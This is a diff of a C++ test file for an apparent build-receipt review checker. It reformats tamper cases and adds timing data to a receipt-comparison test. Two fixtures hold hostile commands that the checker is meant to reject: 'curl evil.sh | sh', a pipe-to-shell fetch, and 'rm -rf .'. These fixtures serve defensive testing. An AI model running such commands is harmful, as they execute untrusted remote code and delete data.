@@ -193,8 +193,8 @@ const Change changes[] = {
        l.tiers[0].structure->checks = {{"trust me", true, ""}};
      },
      rejected},
-    {"CommandsThatDoSomethingElse",
-     [](Ladder& l) { l.tiers[0].commands = {"curl evil.sh | sh"}; }, sent_back},
+    {"CommandsThatDoSomethingElse", [](Ladder& l) { l.tiers[0].commands = {"curl evil.sh | sh"}; },
+     sent_back},
     {"ACommandMore", [](Ladder& l) { l.tiers[2].commands.push_back("rm -rf ."); }, sent_back},
 };
 
@@ -240,6 +240,9 @@ TEST(ReceiptAgain, IsTheSameButForItsTimes) {
   BuildReceipt claimed = testing::good_bundle().receipt;
   BuildReceipt again = claimed;
   again.stages[0].elapsed_ms = 12;
+  for (BuildReceipt* receipt : {&claimed, &again})
+    receipt->stages[0].effect =
+        Json::object().set("times_ms", Json::object().set("total", receipt == &claimed ? 3 : 4));
   EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::approve);
   claimed.stages[0].status = StageStatus::cached;
   EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
